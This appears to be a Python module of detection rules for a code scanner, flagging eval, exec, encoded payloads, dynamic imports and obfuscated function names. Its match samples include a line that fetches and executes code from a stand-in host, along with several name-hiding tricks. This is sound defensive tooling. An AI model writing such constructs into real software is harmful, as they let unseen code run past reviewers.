"""Rules about code that is made or found at run time."""

from __future__ import annotations

from engine.analysis.python.rules.make import python_rule
from engine.models import Level

EXEC = python_rule(
    "py-exec",
    "Text is run as code",
    "exec_eval",
    Level.HIGH,
    attack="Runs whatever the text says, which no reader of this code has seen.",
    why="HIGH: the code that runs is not the code under review; MEDIUM where the text is a visible constant.",
    fix="Write the code itself; for literals use `ast.literal_eval`, for arithmetic a parser.",
    match=("eval(x)", "exec(open('a').read())", "import builtins as b\nb.exec('1')", "f = eval\nf(x)"),
    not_match=("df.eval('a + b')", "import ast\nast.literal_eval(x)", "def eval(x): return x\neval(1)"),
    cwe=95,
    owasp="LLM05",
)
EXEC_DECODED = python_rule(
    "py-exec-decoded",
    "Decoded text is run as code",
    "exec_eval",
    Level.CRITICAL,
    attack="Hides the payload from the reader by an encoding and unpacks it when it runs.",
    why="CRITICAL: code is encoded before it is run only to keep it from being read.",
    fix="Send the decoded code.",
    match=(
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import zlib\nexec(zlib.decompress(data))",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    ),
    not_match=("import base64\nprint(base64.b64decode('cHJpbnQoMSk='))", "exec('print(1)')"),
    cwe=506,
    owasp="LLM05",
)
EXEC_FOREIGN = python_rule(
    "py-exec-foreign",
    "Text from outside is run as code",
    "exec_eval",
    Level.CRITICAL,
    attack="Whoever writes the input, answers the request or sits at the socket decides what runs.",
    why="CRITICAL: the text that runs comes from a person or machine that nobody approved.",
    fix="Parse the input; never run it.",
    match=("eval(input())", "import requests\nexec(requests.get('https://a.example/x').text)"),
    not_match=("import ast\nast.literal_eval(input())", "eval('1')"),
    cwe=95,
    owasp="LLM05",
)
COMPILE = python_rule(
    "py-compile",
    "Text is compiled to code",
    "exec_eval",
    Level.MEDIUM,
    attack="Makes a code object that a later, harmless-looking call runs.",
    why="MEDIUM: compiling alone runs nothing; running the result has a violation of its own.",
    fix="Write the code itself.",
    match=("c = compile('1', 's', 'exec')",),
    not_match=("import re\nre.compile('a')",),
    cwe=95,
)
DYNAMIC_IMPORT = python_rule(
    "py-dynamic-import",
    "A module is imported by name at run time",
    "exec_eval",
    Level.MEDIUM,
    attack="Loads a module that no import statement shows.",
    why="MEDIUM: the name may be harmless; HIGH where a dangerous name was put together from pieces.",
    fix="Use an import statement.",
    match=("__import__('os')", "import importlib\nimportlib.import_module(name)"),
    not_match=("import os", "importer('os')"),
    cwe=470,
)
CODE_OBJECT = python_rule(
    "py-code-object",
    "Code is built below the level of source",
    "exec_eval",
    Level.HIGH,
    attack="Runs byte code that has no source to review, or loads code from a file or an archive.",
    why="HIGH: there is no source of what runs.",
    fix="Write the code itself.",
    match=(
        "import types\ntypes.FunctionType(c, {})",
        "import runpy\nrunpy.run_path('a.py')",
        "f.__code__ = g",
        "import code\ncode.interact()",
    ),
    not_match=("import types\ntypes.SimpleNamespace(a=1)",),
    cwe=94,
)
HIDDEN_NAME = python_rule(
    "py-hidden-name",
    "A name is hidden from the reader",
    "obfuscation",
    Level.HIGH,
    attack="Splits or computes the name of a dangerous function so that a search for it finds nothing.",
    why="HIGH: honest code writes the name; only hiding needs this.",
    fix="Write the attribute or the import plainly.",
    match=(
        "getattr(__builtins__, 'ev' + 'al')('1')",
        "import os\ngetattr(os, 'sys' + 'tem')('ls')",
        "__import__('o' + 's')",
        "import os\nvars(os)[name]('ls')",
    ),
    not_match=("import os\nos.system('ls')", "getattr(thing, 'a' + 'b')", "d = {}\nd['ev' + 'al']"),
    cwe=506,
)
INDIRECT_NAME = python_rule(
    "py-indirect-name",
    "A dangerous name is reached by a detour",
    "obfuscation",
    Level.MEDIUM,
    attack="Reaches a function through a namespace or `getattr`, where searches for it do not look.",
    why="MEDIUM: the name is at least readable; HIGH where it is put together from pieces.",
    fix="Write the attribute plainly.",
    match=(
        "import os\nvars(os)['system']",
        "import sys\nsys.modules['os']",
        "getattr(__builtins__, 'eval')",
        "import shutil\nshutil.os.system",
        "print(__builtins__)",
        "@open\n@input\nclass A: pass",
        "globals()[name]()",
    ),
    not_match=(
        "import math\ngetattr(math, 'pi')",
        "d['os']",
        "import os\nos.path.join(a, b)",
        "import concurrent.futures\nconcurrent.futures.wait(x)",
    ),
    cwe=506,
)
LOOSE_FUNCTION = python_rule(
    "py-loose-function",
    "A function that runs texts or programs is passed on",
    "exec_eval",
    Level.MEDIUM,
    attack="Hands it on under another name, in a container or as an argument, to be called there.",
    why="MEDIUM: it is named, but what it will run is not seen here.",
    fix="Call it where it is named.",
    match=(
        "import os\nrun = os.system",
        "table = {'a': exec}",
        "import os\nsorted(x, key=os.popen)",
        "import os\ndef f(run=os.system): run(x)",
        "from subprocess import getoutput\nthing.run = getoutput",
    ),
    not_match=("import os\ngo = os.getcwd", "import re\nc = re.compile", "f = df.eval", "print(run)"),
    cwe=95,
)
DYNAMIC_ATTRIBUTE = python_rule(
    "py-dynamic-attribute",
    "Attributes or names are reached by text",
    "exec_eval",
    Level.LOW,
    attack="Reaches, replaces or removes things whose names do not stand in the code as names.",
    why="LOW: common in honest code; HIGH violations follow where the name is dangerous or hidden.",
    fix="Write the attribute plainly where it is known.",
    match=("getattr(a, b)", "setattr(a, 'b', 1)", "delattr(a, b)", "globals()"),
    not_match=("a.b", "a.getattr(b)"),
    cwe=470,
)

RULES = (
    EXEC,
    EXEC_DECODED,
    EXEC_FOREIGN,
    COMPILE,
    DYNAMIC_IMPORT,
    CODE_OBJECT,
    HIDDEN_NAME,
    INDIRECT_NAME,
    LOOSE_FUNCTION,
    DYNAMIC_ATTRIBUTE,
)
